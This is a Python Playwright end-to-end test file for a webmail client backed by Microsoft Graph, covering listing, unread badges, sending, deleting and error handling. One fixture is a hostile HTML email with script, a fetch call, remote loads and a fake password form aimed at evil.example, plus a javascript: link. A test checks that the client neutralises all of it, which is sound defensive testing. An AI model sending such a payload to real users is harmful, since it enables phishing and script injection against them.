"""Mail: every message, nothing that runs, and what is done to messages is so in Graph."""

from __future__ import annotations

import base64
import json
import re

import pytest
from playwright.sync_api import Locator, Route, expect

from graphwright_sandbox.faults import FaultPlan, FaultRule
from tests.e2e.conftest import OpenVisitor
from tests.e2e.graph import Graph, GraphOf, Json
from tests.e2e.visitor import Visitor

pytestmark = pytest.mark.browser

ROW_HEIGHT = 84
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
EVIL = """<html><head><style>@import url(https://evil.example/style.css);
p { background: url(https://evil.example/background.png) }</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<script>parent.document.title = 'taken over'; fetch('https://evil.example/script')</script></head>
<body background="https://evil.example/body.png"><p onclick="parent.document.title = 'clicked'">
Dear colleague, read this carefully.</p>
<img src="https://images.example/pixel.png" onerror="parent.document.title = 'failed'" alt="chart">
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
<form action="https://evil.example/form"><input name="password"><button>Sign in again</button></form>
<svg onload="parent.document.title = 'drawn'"></svg><a href="javascript:alert(1)">here</a>
</body></html>"""


def folder_messages(graph: Graph, folder: str) -> list[Json]:
    return graph.get_all(
        f"/me/mailFolders/{folder}/messages",
        {"$orderby": "receivedDateTime desc", "$top": "50", "$select": "id,subject,isRead"},
    )


def subjects_of(messages: list[Json]) -> list[str]:
    return [message["subject"] or "(no subject)" for message in messages]


def send(graph: Graph, to: Graph, subject: str, content: str, kind: str = "html") -> None:
    graph.post(
        "/me/sendMail",
        {
            "message": {
                "subject": subject,
                "body": {"contentType": kind, "content": content},
                "toRecipients": [{"emailAddress": {"address": to.person.mail}}],
            }
        },
    )


def message_list(visitor: Visitor, folder: str) -> Locator:
    return visitor.page.get_by_role("listbox", name=folder)


def open_folder(visitor: Visitor, name: str) -> None:
    folders = visitor.page.get_by_role("navigation", name="Folders")
    folders.get_by_role("button", name=re.compile(f"^{name}")).click()
    expect(visitor.page.get_by_role("region", name=name)).to_be_visible()
    visitor.wait()


def read_all_subjects(visitor: Visitor, folder: str, count: int) -> list[str]:
    """Scroll through the whole list, from drawn messages to the next ones."""
    expect(visitor.page.get_by_role("region", name=folder)).to_contain_text(f"{count} message")
    found: dict[int, str] = {}
    listbox = message_list(visitor, folder)
    while len(found) < count:
        following = next(number for number in range(1, count + 1) if number not in found)
        listbox.evaluate("(list, top) => list.scrollTo(0, top)", (following - 1) * ROW_HEIGHT)
        option = listbox.locator(f'[aria-posinset="{following}"]:not([aria-label="Loading"])')
        expect(option).to_be_visible()
        found[following] = option.inner_text().split("\n")[2]
    return [found[number] for number in sorted(found)]


def open_message(visitor: Visitor, subject: str) -> Locator:
    visitor.page.get_by_role("option").filter(has_text=subject).first.click()
    pane = visitor.page.get_by_role("article", name=subject)
    expect(pane).to_be_visible()
    return pane


def test_mail_shows_every_message_of_every_folder(
    open_visitor: OpenVisitor, graph_of: GraphOf
) -> None:
    visitor, graph = open_visitor("jonas.mueller"), graph_of("jonas.mueller")
    visitor.sign_in("/mail")
    inbox = folder_messages(graph, "inbox")
    assert len(inbox) > 15
    assert read_all_subjects(visitor, "Inbox", len(inbox)) == subjects_of(inbox)
    step = visitor.step_path()
    rows = visitor.get_json(f"{step}/rows?part=messages&limit=500")["rows"]
    inbox_ids = {message["id"] for message in inbox}
    assert inbox_ids <= {row["_key"] for row in rows}
    for name in ("Sent Items", "Junk Email", "Drafts"):
        open_folder(visitor, name)
        messages = folder_messages(graph, name.replace(" ", "").lower())
        if messages:
            assert read_all_subjects(visitor, name, len(messages)) == subjects_of(messages)
        else:
            expect(visitor.page.get_by_text("No messages here")).to_be_visible()
    assert folder_messages(graph, "sentitems")


def test_each_folder_tells_how_many_messages_are_unread(
    open_visitor: OpenVisitor, graph_of: GraphOf
) -> None:
    visitor, graph = open_visitor("elena.papadopoulou"), graph_of("elena.papadopoulou")
    visitor.sign_in("/mail")
    folders = graph.get_all("/me/mailFolders", {"$top": "100"})
    buttons = visitor.page.get_by_role("navigation", name="Folders").get_by_role("button")
    expect(buttons).to_have_count(len(folders))
    unread = {folder["displayName"]: folder["unreadItemCount"] for folder in folders}
    assert unread["Inbox"] > 0
    for title, count in unread.items():
        badge = buttons.filter(has_text=title).get_by_role("img")
        if count:
            expect(badge).to_have_accessible_name(f"{count} unread")
        else:
            expect(badge).to_have_count(0)


def test_a_hostile_message_runs_nothing_and_calls_nobody_until_images_are_asked_for(
    open_visitor: OpenVisitor, graph_of: GraphOf
) -> None:
    visitor = open_visitor("ethan.brooks")
    send(graph_of("zoe.adeyemi"), graph_of("ethan.brooks"), "Read this", EVIL)
    asked: list[str] = []

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(body=PIXEL, content_type="image/png")

    visitor.context.route(re.compile(r"^https?://[^/]*\.example/"), answer)
    visitor.sign_in("/mail")
    pane = open_message(visitor, "Read this")
    frame = pane.frame_locator("iframe")
    text = frame.get_by_text("Dear colleague, read this carefully.")
    expect(text).to_be_visible()
    text.click()
    expect(
        frame.locator("script, iframe, object, form, input, svg, meta[http-equiv]")
    ).to_have_count(0)
    assert "javascript:" not in frame.locator("body").inner_html()
    expect(visitor.page).to_have_title("Mail – My day")
    assert asked == []
    with visitor.context.expect_event("requestfinished", lambda one: "images.example" in one.url):
        pane.get_by_role("button", name="Show images").click()
    expect(frame.get_by_role("img", name="chart")).to_be_visible()
    assert asked == ["https://images.example/pixel.png"]
    expect(visitor.page).to_have_title("Mail – My day")
    expect(pane.get_by_role("button", name="Show images")).to_have_count(0)
    visitor.watch.allowed_hosts.add("images.example")


def test_marking_and_deleting_a_message_is_so_in_graph(
    open_visitor: OpenVisitor, graph_of: GraphOf
) -> None:
    visitor, graph = open_visitor("charlotte.hughes"), graph_of("charlotte.hughes")
    send(graph_of("zoe.adeyemi"), graph, "Lunch?", "At noon.", "text")
    visitor.sign_in("/mail")
    pane = open_message(visitor, "Lunch?")
    expect(pane.frame_locator("iframe").get_by_text("At noon.")).to_be_visible()
    (message,) = (m for m in folder_messages(graph, "inbox") if m["subject"] == "Lunch?")
    for expected in (True, False):
        assert message["isRead"] is not expected
        with visitor.taking("mark_read"):
            pane.get_by_role("button", name="Read / unread").click()
        message = graph.get(f"/me/messages/{message['id']}")
        assert message["isRead"] is expected
    before = len(folder_messages(graph, "inbox"))
    pane.get_by_role("button", name="Delete").click()
    visitor.allow(404, "/api/steps/")  # the reading pane learns that its message is gone
    with visitor.taking("delete"):
        visitor.confirm("Delete “Lunch?”?", "Delete")
    expect(visitor.page.get_by_role("region", name="Inbox")).to_contain_text(
        f"{before - 1} messages"
    )
    expect(message_list(visitor, "Inbox").get_by_text("Lunch?", exact=True)).to_have_count(0)
    assert "Lunch?" not in subjects_of(folder_messages(graph, "inbox"))
    assert "Lunch?" in subjects_of(folder_messages(graph, "deleteditems"))
    open_folder(visitor, "Deleted Items")
    expect(message_list(visitor, "Deleted Items").get_by_text("Lunch?", exact=True)).to_be_visible()


def test_a_sent_message_reaches_the_inbox_of_the_recipient_once(
    open_visitor: OpenVisitor, graph_of: GraphOf
) -> None:
    visitor, sender = open_visitor("grace.thompson"), graph_of("grace.thompson")
    recipient = graph_of("william.dubois")
    subject, text = "Quarterly 'numbers' <draft> {{ 2 * 3 }}", "Line one\nLine two 🎉 & more"
    visitor.sign_in("/mail")
    visitor.button("New message").click()
    expect(visitor.heading("New message")).to_be_visible()
    page = visitor.page
    page.get_by_role("textbox", name="To").fill("not an address")
    page.get_by_role("textbox", name="Subject").fill(subject)
    page.get_by_role("textbox", name="Message").fill(text)
    visitor.allow(400, "/api/steps/")
    visitor.button("Send").click()
    expect(page.get_by_text("Write one address")).to_be_visible()
    assert subject not in subjects_of(folder_messages(sender, "sentitems"))
    page.get_by_role("textbox", name="To").fill(recipient.person.mail)
    with visitor.taking("submit"):
        visitor.button("Send").dblclick()
    expect(visitor.heading("Mail")).to_be_visible()
    open_folder(visitor, "Sent Items")
    expect(message_list(visitor, "Sent Items").get_by_text(subject, exact=True)).to_be_visible()
    for graph, folder in ((recipient, "inbox"), (sender, "sentitems")):
        (found,) = (m for m in folder_messages(graph, folder) if m["subject"] == subject)
        body = graph.get(f"/me/messages/{found['id']}")["body"]
        assert body["content"].replace("\r\n", "\n").strip() == text


def test_a_letter_that_graph_refuses_keeps_what_was_typed_and_says_why(
    open_visitor: OpenVisitor, graph_of: GraphOf, faults: FaultPlan
) -> None:
    visitor, graph = open_visitor("nadia.elmasry"), graph_of("nadia.elmasry")
    typed = {"To": "yui.sato@northwind.example", "Subject": "'A' & {{ b }}", "Message": "你好\n<i>"}
    error = {"code": "ErrorInvalidRecipients", "message": "At least one recipient isn't valid."}
    faults.add(FaultRule("/me/sendMail", "POST", 400, body=json.dumps({"error": error}).encode()))
    visitor.sign_in("/mail")
    visitor.button("New message").click()
    for name, text in typed.items():
        visitor.page.get_by_role("textbox", name=name, exact=True).fill(text)
    with visitor.taking("submit"):
        visitor.button("Send").click()
    expect(visitor.page.get_by_role("main")).to_contain_text(error["message"])
    for name, text in typed.items():
        field = visitor.page.get_by_role("textbox", name=name, exact=True)
        expect(field).to_have_value(text)
    assert typed["Subject"] not in subjects_of(folder_messages(graph, "sentitems"))
    with visitor.taking("submit"):
        visitor.button("Send").click()
    expect(visitor.heading("Mail")).to_be_visible()
    assert subjects_of(folder_messages(graph, "sentitems")).count(typed["Subject"]) == 1
